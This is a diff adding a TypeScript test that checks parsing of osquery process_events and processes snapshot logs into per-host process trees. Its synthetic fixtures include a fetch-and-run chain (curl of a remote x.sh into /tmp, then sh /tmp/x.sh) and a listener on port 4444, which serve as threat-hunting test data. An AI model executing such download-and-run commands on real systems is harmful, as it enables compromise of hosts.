@@ -1,0 +1,104 @@
+/**
+ * osqueryd's result log: `process_events` differential lines (`{"name", "hostIdentifier", "columns": {…}, "action":
+ * "added"}`, every value text) and `processes` snapshot lines (`{"snapshot": [{…}, …], "action": "snapshot"}`):
+ * detected, mapped onto the lab's names, and built into a process tree. Synthetic lines in osquery's logger format.
+ */
+import assert from "node:assert/strict";
+import fs from "node:fs";
+import path from "node:path";
+import { describe, it } from "node:test";
+import pl from "nodejs-polars";
+import { buildProcessTree, inferProcessSchema, ptree } from "../../../src/index";
+import { readDataFile } from "../../../src/data/readers";
+import { detectEventSchema, normalizeEvents } from "../../../src/data/schemas/index";
+import { tempDir } from "../../helpers/tmp";
+import { columnNames } from "../../../src/common/frames";
+
+const T0 = 1772359200; // 2026-03-01T10:00:00Z
+const header = (name: string, host: string, t: number) => ({
+  name,
+  hostIdentifier: host,
+  calendarTime: new Date(t * 1000).toUTCString().replace("GMT", "UTC"),
+  unixTime: t,
+  epoch: 0,
+  counter: 1,
+  numerics: false,
+  decorations: { host_uuid: `uuid-${host}` },
+});
+
+/** process_events: sshd (not in the data) → bash → curl, bash → sh; PID 2200 reused on another host; a `removed` line and another query's line. */
+function processEvents() {
+  const ev = (host: string, dt: number, pid: number, parent: number, p: string, cmdline: string, action = "added") => ({
+    ...header("pack_hunting_process_events", host, T0 + dt + 5),
+    columns: { pid: String(pid), parent: String(parent), path: p, cmdline, cwd: "/home/dana", uid: "1001", auid: "1001", euid: "1001", time: String(T0 + dt), syscall: "execve", eid: String(7000 + dt), cmdline_size: String(cmdline.length) },
+    action,
+  });
+  return [
+    ev("web-01", 0, 2200, 1800, "/usr/bin/bash", "-bash"),
+    ev("web-01", 2, 2210, 2200, "/usr/bin/curl", "curl -s http://203.0.113.7/x.sh -o /tmp/x.sh"),
+    ev("web-01", 3, 2215, 2200, "/usr/bin/sh", "sh /tmp/x.sh"),
+    ev("db-01", 4, 2200, 1, "/usr/sbin/cron", "/usr/sbin/cron -f"),
+    // A differential query's removed row is no process start; another query's row has no process columns.
+    ev("web-01", 9, 2210, 2200, "/usr/bin/curl", "curl", "removed"),
+    { ...header("pack_hunting_listening_ports", "web-01", T0 + 10), columns: { port: "4444", address: "0.0.0.0", pid: "2215" }, action: "added" },
+  ];
+}
+
+function write(name: string, lines: unknown[]): string {
+  const file = path.join(tempDir(), name);
+  fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n");
+  return file;
+}
+
+const col = (df: pl.DataFrame, name: string) => df.getColumn(name).toArray() as unknown[];
+
+describe("osquery result logs", () => {
+  it("process_events (differential): detected, the lab's names added, epoch-second text times read; the tree links pid ← parent per host", () => {
+    const raw = readDataFile(write("osqueryd.results.log", processEvents()));
+    assert.equal(raw.getColumn("columns").dtype.variant, "Struct");
+    assert.equal(detectEventSchema(raw, "process").name, "osquery process_events");
+    const df = normalizeEvents(raw, "process");
+    assert.deepEqual(col(df, "NewProcessName"), ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/sh", "/usr/sbin/cron"], "the removed row and the other query's row are left out");
+    assert.deepEqual(col(df, "Computer"), ["web-01", "web-01", "web-01", "db-01"]);
+    assert.deepEqual(col(df, "CommandLine")[1], "curl -s http://203.0.113.7/x.sh -o /tmp/x.sh");
+    assert.equal(df.getColumn("TimeGenerated").dtype.variant, "Datetime");
+    assert.equal((col(df, "TimeGenerated")[0] as Date).toISOString(), "2026-03-01T10:00:00.000Z");
+    assert.equal(inferProcessSchema(columnNames(df))?.name, "osquery process_events");
+
+    const tree = buildProcessTree(df);
+    const bash = tree.filter(pl.col("NewProcessName").eq(pl.lit("/usr/bin/bash")));
+    assert.deepEqual(col(ptree.getChildren(tree, bash), "NewProcessName").sort(), ["/usr/bin/curl", "/usr/bin/sh"]);
+    // db-01's PID 2200 is not web-01's bash: its parent is its own rebuilt PID 1.
+    const cron = tree.filter(pl.col("NewProcessName").eq(pl.lit("/usr/sbin/cron")));
+    assert.deepEqual(col(ptree.getParent(tree, cron), "hostIdentifier"), ["db-01"]);
+    assert.deepEqual(col(ptree.getParent(tree, cron), "columns.pid"), ["1"]);
+    assert.equal(ptree.getSummaryInfo(tree).InferredProcesses, 2, "sshd's 1800 on web-01, PID 1 on db-01");
+  });
+
+  it("processes (snapshot lines): each snapshot row a process, with its line's host; start_time is the time", () => {
+    const snap = (host: string, rows: [number, number, string, string, string, number][]) => ({
+      ...header("pack_hunting_processes", host, T0 + 60),
+      snapshot: rows.map(([pid, parent, name, p, cmdline, start]) => ({ pid: String(pid), parent: String(parent), name, path: p, cmdline, start_time: String(start), state: "S", threads: "1", uid: "0", on_disk: "1" })),
+      action: "snapshot",
+    });
+    const lines = [
+      snap("web-01", [
+        [1, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init", T0 - 86400],
+        [900, 1, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", T0 - 86000],
+        [2200, 900, "bash", "/usr/bin/bash", "-bash", T0],
+      ]),
+      snap("db-01", [[1, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init", T0 - 3600]]),
+    ];
+    const raw = readDataFile(write("osqueryd.snapshots.log", lines));
+    assert.equal(raw.height, 2);
+    assert.equal(detectEventSchema(raw, "process").name, "osquery processes");
+    const df = normalizeEvents(raw, "process");
+    assert.equal(df.height, 4, "one row per snapshot row");
+    assert.deepEqual(col(df, "Computer"), ["web-01", "web-01", "web-01", "db-01"]);
+    assert.deepEqual(col(df, "action"), ["snapshot", "snapshot", "snapshot", "snapshot"]);
+    assert.equal((col(df, "TimeGenerated")[2] as Date).toISOString(), "2026-03-01T10:00:00.000Z");
+    const tree = buildProcessTree(df);
+    const systemd = tree.filter(pl.col("NewProcessName").eq(pl.lit("/usr/lib/systemd/systemd")).and(pl.col("Computer").eq(pl.lit("web-01"))));
+    assert.deepEqual(col(ptree.getDescendents(tree, systemd), "NewProcessName"), ["/usr/lib/systemd/systemd", "/usr/sbin/sshd", "/usr/bin/bash"]);
+  });
+});
